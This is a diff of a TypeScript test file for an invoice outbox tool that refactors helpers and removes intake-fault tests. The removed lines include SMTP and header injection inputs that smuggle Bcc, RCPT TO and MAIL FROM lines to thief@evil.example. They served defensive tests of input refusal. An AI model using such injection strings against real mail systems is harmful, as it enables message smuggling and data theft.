@@ -1,4 +1,4 @@
-// Faults 28, 29, 32 to 34: the same request again, other bytes under the same key, poison, very large, very strange.
+// Faults 28, 29, 32 and 33: the same request again, other bytes under the same key, poison, very large ones.
 import { readFileSync } from 'node:fs';
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
@@ -7,13 +7,23 @@ import type { Started } from '../../support/outbox.ts';
 import type { Scenario } from '../scenario.ts';
 import type { Installed, Scene } from '../scene.ts';
 
-async function document(installed: Installed, name: string, content: string | Buffer): Promise<string> {
+export async function writeDocument(installed: Installed, name: string, content: string | Buffer): Promise<string> {
   const file = join(installed.outbox.folder, name);
   await writeFile(file, content);
   return file;
 }
 
-const send = (file: string, number: string, ...more: string[]): string[] => ['send', file, '--type', 'invoice', '--number', number, '--email', 'ap@abf.example', ...more];
+export const sendArguments = (file: string, number: string, ...more: string[]): string[] => [
+  'send',
+  file,
+  '--type',
+  'invoice',
+  '--number',
+  number,
+  '--email',
+  'ap@abf.example',
+  ...more,
+];
 
 const hundredTimes: Scenario = {
   number: 28,
@@ -22,10 +32,12 @@ const hundredTimes: Scenario = {
   async run(scene) {
     const sink = await scene.sink();
     const installed = await scene.install(sink, { messages: 0 });
-    const file = await document(installed, 'one.txt', 'Invoice\n');
+    const file = await writeDocument(installed, 'one.txt', 'Invoice\n');
     const ids = new Set<string>();
     for (let wave = 0; wave < 5; wave++) {
-      const ends = await Promise.all(Array.from({ length: 20 }, () => installed.outbox.run(...send(file, '1', '--key', 'same'))));
+      const ends = await Promise.all(
+        Array.from({ length: 20 }, () => installed.outbox.run(...sendArguments(file, '1', '--key', 'same'))),
+      );
       for (const { code, stdout, stderr } of ends) {
         if (code !== 0) scene.wrong.push(`exit code ${code}: ${stderr.slice(0, 120)}`);
         ids.add(/[0-9a-f-]{36}/.exec(stdout)?.[0] ?? stdout.trim());
@@ -45,11 +57,11 @@ const otherBytes: Scenario = {
   async run(scene) {
     const sink = await scene.sink();
     const installed = await scene.install(sink, { messages: 0 });
-    const first = await document(installed, 'one.txt', 'Invoice\n');
-    const second = await document(installed, 'two.txt', 'Another invoice\n');
-    scene.equal((await scene.run(installed, send(first, '1'))).code, 0, 'exit code of the first');
+    const first = await writeDocument(installed, 'one.txt', 'Invoice\n');
+    const second = await writeDocument(installed, 'two.txt', 'Another invoice\n');
+    scene.equal((await scene.run(installed, sendArguments(first, '1'))).code, 0, 'exit code of the first');
     scene.taken = 1;
-    const { code, stderr, stdout } = await scene.run(installed, send(second, '1'));
+    const { code, stderr, stdout } = await scene.run(installed, sendArguments(second, '1'));
     scene.equal(code, 2, 'exit code of the second');
     scene.must(/key/.test(stderr + stdout), 'the words do not name the key');
     await scene.send(installed);
@@ -67,7 +79,11 @@ const poison: Scenario = {
     for (let death = 0; death < 2; death++) await scene.send(installed, { OUTBOX_FAILPOINT: 'W2:1' });
     await scene.send(installed);
     const held = (await scene.messages(installed)).filter(({ status }) => status === 'held');
-    scene.equal(held.map(({ reason }) => reason), ['poison'], 'held');
+    scene.equal(
+      held.map(({ reason }) => reason),
+      ['poison'],
+      'held',
+    );
     await scene.mustCount(installed, { held: 1, released: 5 }, 'at the end');
   },
 };
@@ -79,10 +95,14 @@ const brokenPdf: Scenario = {
   async run(scene) {
     const sink = await scene.sink();
     const installed = await scene.install(sink, { messages: 0 });
-    const good = await document(installed, 'good.pdf', pdfMaker(20_000)(1));
-    const bad = await document(installed, 'bad.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000, 0xa5)]));
-    scene.equal((await scene.run(installed, send(good, '1'))).code, 0, 'exit code of the good one');
-    scene.equal((await scene.run(installed, send(bad, '2'))).code, 1, 'exit code of the bad one');
+    const good = await writeDocument(installed, 'good.pdf', pdfMaker(20_000)(1));
+    const bad = await writeDocument(
+      installed,
+      'bad.pdf',
+      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000, 0xa5)]),
+    );
+    scene.equal((await scene.run(installed, sendArguments(good, '1'))).code, 0, 'exit code of the good one');
+    scene.equal((await scene.run(installed, sendArguments(bad, '2'))).code, 1, 'exit code of the bad one');
     scene.taken = 2;
     await scene.send(installed);
     await scene.mustCount(installed, { blocked: 1, released: 1 }, 'at the end');
@@ -126,16 +146,20 @@ const mostMegabytes = 256;
 async function largeOnes(scene: Scene, megabytes: number, count: number, limits: string): Promise<void> {
   const sink = await scene.sink();
   const installed = await scene.install(sink, { messages: 0, limits });
-  const file = await document(installed, 'large.pdf', pdfMaker(megabytes * 1024 * 1024)(1));
+  const file = await writeDocument(installed, 'large.pdf', pdfMaker(megabytes * 1024 * 1024)(1));
   if (count === 1) {
-    const taking = installed.outbox.start(send(file, '1'));
+    const taking = installed.outbox.start(sendArguments(file, '1'));
     const peak = await peakOf(taking);
     scene.saw(`intake used ${peak} MB at most`);
     scene.must(peak < mostMegabytes, `intake used ${peak} MB`);
     if ((await taking.ended).code !== 0) throw new Error((await taking.ended).stderr);
   } else {
     const rows = Array.from({ length: count }, (_, row) => `large.pdf,invoice,${row},C${row},c${row}@abf.example`);
-    const manifest = await document(installed, 'manifest.csv', `file,type,number,customer,email\n${rows.join('\n')}\n`);
+    const manifest = await writeDocument(
+      installed,
+      'manifest.csv',
+      `file,type,number,customer,email\n${rows.join('\n')}\n`,
+    );
     const { code, stderr } = await scene.run(installed, ['import', manifest]);
     if (code !== 0) throw new Error(stderr);
   }
@@ -164,93 +188,4 @@ const large: Scenario[] = [
   },
 ];
 
-/** Each in one argument; refused ones must be refused, the others must arrive as one message that keeps to the rules. */
-const strange: { what: string; args: (file: string) => string[]; refused?: boolean }[] = [
-  { what: 'CR LF in the subject', args: (file) => send(file, '1', '--subject', 'Invoice\r\nBcc: thief@evil.example'), refused: true },
-  { what: 'a line feed in the address', args: (file) => ['send', file, '--type', 'invoice', '--number', '1', '--email', 'a@abf.example\nRCPT TO:<thief@evil.example>'], refused: true },
-  { what: 'CR LF in the number', args: (file) => send(file, '1\r\nX: y'), refused: true },
-  { what: 'CR LF in the key', args: (file) => send(file, '1', '--key', 'a\r\nb'), refused: true },
-  { what: 'a dot alone, and a dialogue, in the note', args: (file) => send(file, '1', '--note', 'Hello\r\n.\r\nMAIL FROM:<thief@evil.example>\r\nRCPT TO:<x@evil.example>\r\nDATA\r\nMessage-ID: <smuggled@evil>\r\n\r\nhi\r\n.\r\n') },
-  { what: 'bare line feeds around a dot in the note', args: (file) => send(file, '1', '--note', 'Hello\n.\nMAIL FROM:<thief@evil.example>\n.\r\nmore') },
-  { what: 'bare carriage returns around a dot in the note', args: (file) => send(file, '1', '--note', 'Hello\r.\rMAIL FROM:<thief@evil.example>\r.\r') },
-  { what: 'a note in one line of 5,000 characters', args: (file) => send(file, '1', '--note', 'word '.repeat(1_000)) },
-  { what: 'a note with one word of 5,000 characters', args: (file) => send(file, '1', '--note', 'x'.repeat(5_000)) },
-  { what: 'a subject of 2,000 characters beyond ASCII', args: (file) => send(file, '1', '--subject', 'Prüfung '.repeat(250)) },
-  { what: 'a subject in one word of 1,500 characters', args: (file) => send(file, '1', '--subject', 'y'.repeat(1_500)) },
-  { what: 'lines that begin with dots', args: (file) => send(file, '1', '--note', '.\n..\n...\n.hidden') },
-  { what: 'a domain beyond ASCII', args: (file) => ['send', file, '--type', 'invoice', '--number', '1', '--email', 'kunde@bücher.example'] },
-  { what: 'a local part beyond ASCII', args: (file) => ['send', file, '--type', 'invoice', '--number', '1', '--email', 'jürgen@abf.example'] },
-];
-
-const strangeOnes: Scenario[] = strange.map(({ what, args, refused }) => ({
-  number: 34,
-  fault: what,
-  expected: refused ? 'refused at intake with the reason; nothing is sent' : 'arrives as one message that keeps to the rules',
-  async run(scene) {
-    const sink = await scene.sink();
-    const installed = await scene.install(sink, { messages: 0 });
-    const file = await document(installed, 'one.txt', 'Invoice\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n');
-    const { code, stderr } = await scene.run(installed, args(file));
-    if (refused) {
-      scene.equal(code, 2, 'exit code');
-      return scene.must(stderr.trim() !== '', 'no reason is given');
-    }
-    scene.equal(code, 0, 'exit code');
-    scene.taken = 1;
-    await scene.send(installed);
-    await scene.mustCount(installed, { released: 1 }, 'at the end');
-    const { entries, places } = await sink.seen();
-    scene.equal([entries.length, places['mail']], [1, 1], 'messages at the mail server');
-  },
-}));
-
-const strangeRow = (what: string, row: string): Scenario => ({
-  number: 34,
-  fault: `a manifest with ${what}`,
-  expected: 'that row is named and stopped; the others go out',
-  async run(scene) {
-    const sink = await scene.sink();
-    const installed = await scene.install(sink, { messages: 0 });
-    await document(installed, 'one.txt', 'Invoice\n');
-    const manifest = await document(installed, 'manifest.csv', `file,type,number,customer,email\none.txt,invoice,1,C1,c1@abf.example\n${row}\n`);
-    const { code, stderr, stdout } = await scene.run(installed, ['import', manifest]);
-    scene.must(code === 1 || code === 2, `exit code ${code}`);
-    scene.must(/row|line|2|3/i.test(stderr + stdout), 'the row is not named');
-    scene.taken = (await scene.messages(installed)).length;
-    await scene.send(installed);
-    const counts = await scene.counts(installed);
-    scene.saw(Object.entries(counts).map(([status, count]) => `${count} ${status}`).join(', ') || 'nothing taken in');
-    scene.must((await sink.seen()).entries.every(({ recipient }) => recipient === 'c1@abf.example'), 'the strange row was sent');
-  },
-});
-
-const commaList: Scenario = {
-  number: 34,
-  fault: 'a manifest with several addresses behind commas',
-  expected: 'refused, or one message for each: never a list in one RCPT',
-  async run(scene) {
-    const sink = await scene.sink();
-    const installed = await scene.install(sink, { messages: 0 });
-    await document(installed, 'one.txt', 'Invoice\n');
-    const row = 'one.txt,invoice,2,C2,"c2@abf.example,c3@abf.example"';
-    await scene.run(installed, ['import', await document(installed, 'manifest.csv', `file,type,number,customer,email\n${row}\n`)]);
-    scene.taken = (await scene.messages(installed)).length;
-    await scene.send(installed);
-    const { entries } = await sink.seen();
-    scene.saw(`${entries.length} messages`);
-    scene.must(entries.every(({ recipient }) => !recipient.includes(',')), 'a list reached RCPT');
-  },
-};
-
-export const intakeFaults: Scenario[] = [
-  hundredTimes,
-  otherBytes,
-  poison,
-  brokenPdf,
-  hardToRead,
-  ...large,
-  ...strangeOnes,
-  strangeRow('NUL in an address', 'one.txt,invoice,2,C2,c2\0@abf.example'),
-  commaList,
-  strangeRow('CR LF inside quotes in an address', 'one.txt,invoice,2,C2,"c2@abf.example\r\nBcc: thief@evil.example"'),
-];
+export const intakeFaults: Scenario[] = [hundredTimes, otherBytes, poison, brokenPdf, hardToRead, ...large];
